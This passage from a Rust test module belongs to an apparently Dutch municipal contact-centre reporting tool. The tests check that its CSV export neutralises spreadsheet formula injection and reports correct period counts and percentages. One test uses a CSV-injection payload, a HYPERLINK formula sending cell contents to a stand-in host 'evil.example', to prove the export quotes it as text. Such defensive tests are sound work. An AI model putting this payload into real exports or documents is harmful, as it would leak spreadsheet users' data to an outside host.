                (false, c) => veld.push(c),
            }
        }
        if !veld.is_empty() || !record.is_empty() {
            record.push(veld);
            records.push(record);
        }
        records
    }

    #[test]
    fn a_cell_a_spreadsheet_would_run_as_a_formula_stays_text() {
        for (cel, verwacht) in [
            ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
            ("+31 6 1234", "'+31 6 1234"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tverstopt", "'\tverstopt"),
            ("\r=1+1", "'\r=1+1"),
            ("Paspoort", "Paspoort"),
            ("a=b", "a=b"),
        ] {
            let regel = format!("x;{};y\n", csv_veld(cel));
            assert_eq!(
                lees_csv(&regel),
                vec![vec!["x".to_string(), verwacht.to_string(), "y".to_string()]],
                "{cel:?} as {regel:?}"
            );
        }
    }

    proptest::proptest! {
        /// Any text survives the CSV: read back it is the same text, with one quote in front
        /// exactly when it starts like a formula.
        #[test]
        fn every_text_survives_the_csv_and_only_formulas_get_a_quote(tekst in "\\PC*|[=+\\-@\t\r;\"\n a-z]{0,12}") {
            let regel = format!("a;{};b\n", csv_veld(&tekst));
            let gelezen = lees_csv(&regel);
            proptest::prop_assert_eq!(gelezen.len(), 1, "{:?}", regel);
            proptest::prop_assert_eq!(gelezen[0].len(), 3, "{:?}", regel);
            let cel = &gelezen[0][1];
            let formule = tekst.starts_with(['=', '+', '-', '@', '\t', '\r']);
            if formule {
                proptest::prop_assert_eq!(cel.strip_prefix('\''), Some(tekst.as_str()));
            } else {
                proptest::prop_assert_eq!(cel, &tekst);
            }
            proptest::prop_assert!(!cel.starts_with(['=', '+', '-', '@', '\t', '\r']));
        }
    }

    #[test]
    fn the_csv_carries_its_period_counts_beside_percentages_and_no_formulas() {
        use crate::domain::contact::Contactmoment;
        let dir = tempfile::tempdir().unwrap();
        let desk = uuid::Uuid::now_v7();
        let mut store = crate::store::Store::open(&dir.path().join("l.db"), desk).unwrap();
        let om = |d: u32, u: u32| {
            Local
                .with_ymd_and_hms(2026, 11, d, u, 0, 0)
                .unwrap()
                .with_timezone(&Utc)
        };
        let kwaad = "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"klik\")";
        for (i, (onderwerp, eerste)) in [(kwaad, true), (kwaad, false), ("Paspoort", true)]
            .into_iter()
            .enumerate()
        {
            let t = om(17, 9 + i as u32);
            let mut cm = Contactmoment {
                meta: crate::domain::RecordMeta::new(t, desk),
                plaatsgevonden_op: t,
                kanaal: Kanaal::Balie,
                onderwerp: onderwerp.into(),
                inhoud: String::new(),
                notitie: String::new(),
                afhandeling: "afgehandeld".into(),
                partij_id: None,
                zaak_id: None,
                medewerker_id: None,
                afdeling_id: None,
                duur_seconden: 60,
                nawerk_seconden: 0,
                eerstelijns_afgehandeld: eerste,
                bronnen: Vec::new(),
                gesprek_id: None,
                ontvangen_op: None,
            };
            store.save(&mut cm, t).unwrap();
        }
        let r = maak(
            store.conn(),
            NaiveDate::from_ymd_opt(2026, 11, 16).unwrap(),
            NaiveDate::from_ymd_opt(2026, 11, 20).unwrap(),
            Per::Onderwerp,
            &Normen::default(),
            om(30, 12),
        )
        .unwrap();
        let c = csv(&r);
        let rijen = lees_csv(c.trim_start_matches('\u{feff}'));
        let kop = &rijen[0];
        assert_eq!(kop.join(";"), CSV_KOP);
        let kolom = |naam: &str| kop.iter().position(|k| k == naam).unwrap();
        for rij in &rijen[1..] {
            assert_eq!(rij.len(), kop.len(), "{rij:?}");
            assert_eq!(
                (rij[kolom("van")].as_str(), rij[kolom("tot")].as_str()),
                ("2026-11-16", "2026-11-20"),
                "every row has the period: {rij:?}"
            );
            assert!(
                rij.iter()
                    .all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])),
                "{rij:?}"
            );
        }
        // The onderwerp comes out as text, whole.
        let groep = rijen
            .iter()
            .find(|r| r[0] == "contacten_per_onderwerp" && r[1].contains("HYPERLINK"))
            .expect("the group row");
        assert_eq!(groep[1], format!("'{kwaad}"));
        // Counts beside the percentage: 1 of 2 settled in the first line, 50%.
        assert_eq!(
            (
                groep[kolom("aantal")].as_str(),
                groep[kolom("waarvan")].as_str(),
                groep[kolom("waarde")].as_str(),
                groep[kolom("eenheid")].as_str()
            ),
            ("2", "1", "50,0", "%")
        );
        let totaal = rijen.iter().find(|r| r[0] == "eerste_lijn").unwrap();
        assert_eq!(
            (&totaal[kolom("aantal")][..], &totaal[kolom("waarvan")][..]),
            ("3", "2")
        );
        let top = rijen
            .iter()
            .find(|r| r[0] == "onderwerpen" && r[1].contains("HYPERLINK"))
            .unwrap();
        assert_eq!(top[1], format!("'{kwaad}"));
        // The counter: nobody called, so no percentage and no verdict, but the count 0.
        let balie = rijen
            .iter()
            .find(|r| r[0] == "balie" && r[1] == "binnen_15_min")
            .unwrap();
        assert_eq!(
            (
                &balie[kolom("aantal")][..],
                &balie[kolom("waarde")][..],
                &balie[kolom("binnen_norm")][..]
            ),
            ("0", "", "")
        );
    }
}
